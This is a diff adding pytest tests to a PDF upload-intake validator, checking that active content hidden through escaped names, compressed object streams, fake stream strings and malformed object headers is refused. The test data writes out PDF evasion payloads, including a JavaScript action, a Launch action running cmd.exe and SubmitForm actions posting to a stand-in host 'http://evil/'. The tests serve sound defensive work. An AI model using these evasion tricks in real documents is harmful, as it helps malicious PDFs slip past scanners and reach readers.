@@ -1,9 +1,11 @@
 from __future__ import annotations
 
+import io
 import time
 import zlib
 
 import pytest
+from PIL import Image
 
 from tests.uploads.intake.factories import GOOD, HOSTILE, object_stream_pdf, pages_pdf, pdf, zip_archive
 from uploads.intake.errors import (
@@ -175,3 +177,162 @@ def test_countless_escaped_names_are_too_complex() -> None:
     data = pages_pdf(1).replace(b"%PDF-1.4\n", b"%PDF-1.4\n" + b"/a#20" * 100_001 + b"\n", 1)
     with pytest.raises(PdfTooComplex):
         pages(data)
+
+
+# --- What readers see but a keyword search does not -----------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "hidden",
+    [
+        b"/AA << /O << /S /Java#53cript /J#53 (app.alert(1)) >> >>",
+        b"/AA << /O << /S /#4Caunch /F (cmd.exe) >> >>",
+        b"/AA << /O << /S /Submit#46orm /F (http://evil/) >> >>",
+    ],
+    ids=["javascript", "launch", "submit-form"],
+)
+def test_escaped_names_inside_a_compressed_object_stream(hidden: bytes) -> None:
+    data = object_stream_pdf(1, hidden=hidden)
+    escaped = [token for token in hidden.split() if b"#" in token]
+    assert escaped
+    assert not any(token in data for token in escaped)  # only inflating the object stream shows them
+    with pytest.raises(PdfActiveContent):
+        pages(data)
+
+
+def test_an_object_stream_without_its_type_is_still_inflated_and_checked() -> None:
+    # Readers unpack whatever stream an xref entry names; they do not look at /Type.
+    data = object_stream_pdf(1, hidden=b"/AA << /O << /S /JavaScript /JS 9 0 R >> >>").replace(b"/Type /ObjStm ", b"")
+    with pytest.raises(PdfActiveContent):
+        pages(data)
+
+
+FAKE_STREAM = b"/X (stream\n) "
+FAKE_END = b" /Y (endstream) "
+
+
+@pytest.mark.parametrize(
+    "hidden",
+    [b"/AA << /O << /S /SubmitForm /F (http://evil/) >> >>", b"/AcroForm << /XFA 9 0 R >>"],
+    ids=["submit-form", "xfa"],
+)
+def test_a_string_saying_stream_hides_nothing(hidden: bytes) -> None:
+    with pytest.raises(PdfActiveContent):
+        pages(pages_pdf(1, catalog_extra=FAKE_STREAM + hidden + FAKE_END))
+
+
+def test_pages_behind_a_string_saying_stream_count() -> None:
+    # The page tree admits one page; five more page objects sit between "stream" and "endstream" strings.
+    data = pdf(
+        {
+            1: b"<< /Type /Catalog /Pages 2 0 R " + FAKE_STREAM + b">>",
+            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            **{number: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>" for number in range(3, 9)},
+            9: b"<<" + FAKE_END + b">>",
+        }
+    )
+    with pytest.raises(PdfTooManyPages) as refused:
+        pages(data, max_pages=5)
+    assert refused.value.details == {"pages": 6, "max_pages": 5}
+
+
+def test_strings_saying_stream_in_a_plain_pdf_are_fine() -> None:
+    data = pages_pdf(2, catalog_extra=b"/Title (stream\n) /Subject (a \\) (nested) string endstream) ")
+    assert pages(data) == 2
+
+
+def test_an_object_inside_an_unterminated_string_is_refused() -> None:
+    # The "string" would run over the object stream, which readers find through the xref table.
+    data = object_stream_pdf(1, hidden=b"/AA << /O << /S /J#61vaScript >> >>")
+    data = data.replace(b"1000 0 obj", b"999 0 obj\n<< /Title (\n>>\nendobj\n1000 0 obj")
+    with pytest.raises(CorruptFile) as refused:
+        pages(data)
+    assert refused.value.details == {"reason": "pdf_structure"}
+
+
+def stream_object(data: bytes, length: bytes | None = None) -> bytes:
+    declared = b"%d" % len(data) if length is None else length
+    return b"<< /Length " + declared + b" >>\nstream\n" + data + b"\nendstream"
+
+
+def one_page_with(stream: bytes, *extra: tuple[int, bytes]) -> bytes:
+    return pdf(
+        {
+            1: b"<< /Type /Catalog /Pages 2 0 R >>",
+            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            3: b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
+            4: stream,
+            **dict(extra),
+        }
+    )
+
+
+def test_stream_length_may_be_indirect() -> None:
+    content = b"BT /F1 12 Tf (stream) Tj ET"
+    assert pages(one_page_with(stream_object(content, b"5 0 R"), (5, b"%d" % len(content)))) == 1
+
+
+def test_a_wrong_stream_length_falls_back_to_endstream() -> None:
+    assert pages(one_page_with(stream_object(b"q 1 0 0 1 0 0 cm Q", b"3"))) == 1
+
+
+def test_an_object_inside_stream_data_is_refused() -> None:
+    # The xref table can point into stream data: readers would find the page action there.
+    hidden = b"\n9 0 obj\n<< /Type /Page /AA << /O << /S /SubmitForm >> >> >>\nendobj\n"
+    with pytest.raises(CorruptFile) as refused:
+        pages(one_page_with(stream_object(b"q Q" + hidden + b"q Q")))
+    assert refused.value.details == {"reason": "pdf_structure"}
+
+
+def test_stream_data_holding_endstream_before_its_length_is_refused() -> None:
+    # Readers that look for endstream rather than trust /Length would read the rest as objects.
+    with pytest.raises(CorruptFile) as refused:
+        pages(one_page_with(stream_object(b"q Q\nendstream\n/SubmitForm\nq Q")))
+    assert refused.value.details == {"reason": "pdf_stream"}
+
+
+def test_a_stream_that_does_not_follow_a_dictionary_is_refused() -> None:
+    with pytest.raises(CorruptFile) as refused:
+        pages(one_page_with(b"[1 2] stream\nq Q\nendstream"))
+    assert refused.value.details == {"reason": "pdf_stream"}
+
+
+def test_an_object_header_with_a_comment_in_it_is_refused() -> None:
+    # "1000 %\n0 obj" is an object to readers; the object stream behind it must not pass unseen.
+    packed = object_stream_pdf(1, hidden=b"/AA << /O << /S /J#61vaScript >> >>")
+    with pytest.raises(CorruptFile) as refused:
+        pages(packed.replace(b"1000 0 obj", b"1000 %\n0 obj"))
+    assert refused.value.details == {"reason": "pdf_structure"}
+
+
+def test_object_stream_members_listed_out_of_order() -> None:
+    data = object_stream_pdf(3)
+    start = data.index(b"stream\n") + len(b"stream\n")
+    end = data.index(b"\nendstream", start)
+    inflated = zlib.decompress(data[start:end])
+    first = int(data[data.index(b"/First ") + 7 :].split()[0])
+    table = inflated[:first].split()
+    pairs = [table[i : i + 2] for i in range(0, len(table), 2)]
+    header = b" ".join(b" ".join(pair) for pair in reversed(pairs)).ljust(first)
+    packed = zlib.compress(header + inflated[first:])
+    data = data[:start] + packed + data[end:]
+    data = data.replace(b"/Length %d" % (end - start), b"/Length %d" % len(packed))
+    assert pages(data, max_pages=3) == 3
+    with pytest.raises(PdfTooManyPages):
+        pages(data, max_pages=2)
+
+
+@pytest.mark.parametrize("mode", ["RGB", "L", "1", "CMYK"])
+def test_pdfs_written_by_pillow_are_accepted(mode: str) -> None:
+    frames = [Image.new(mode, (300, 200), 128) for _ in range(4)]
+    buffer = io.BytesIO()
+    frames[0].save(buffer, "PDF", save_all=True, append_images=frames[1:], title="申请 (copy) \\ 1")
+    assert pages(buffer.getvalue()) == 4
+
+
+def test_countless_tokens_are_too_complex() -> None:
+    data = pages_pdf(1, catalog_extra=b"/Junk [" + b"0 " * 1_000_001 + b"] ")
+    started = time.monotonic()
+    with pytest.raises(PdfTooComplex):
+        pages(data)
+    assert time.monotonic() - started < 5.0
